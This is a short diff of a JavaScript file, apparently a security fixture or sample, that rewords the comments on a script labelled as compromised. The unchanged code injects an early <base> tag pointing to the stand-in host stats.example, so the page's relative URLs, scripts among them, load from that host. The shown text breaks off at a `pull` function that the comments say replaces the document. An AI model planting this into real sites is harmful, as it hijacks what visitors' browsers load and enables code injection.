@@ -1,9 +1,9 @@
-// A compromised script of the site that rebases the page: early on, it makes relative addresses point to another host;
-// `pull(what)` puts a copy in the document's place, or writes the document anew.
+// A compromised script of the site that makes relative URLs point to another host with an early <base>; `pull(what)` replaces the
+// document with a copy, or rewrites it.
 (() => {
   const base = document.createElement('base');
   base.href = 'https://stats.example/elsewhere/';
-  // After the site's own files were named, before any script of another world runs.
+  // After the site's own files were requested, before any script of another world runs.
   document.addEventListener('readystatechange', () => document.head.append(base), { once: true });
 })();
 window.pull = (what) => {
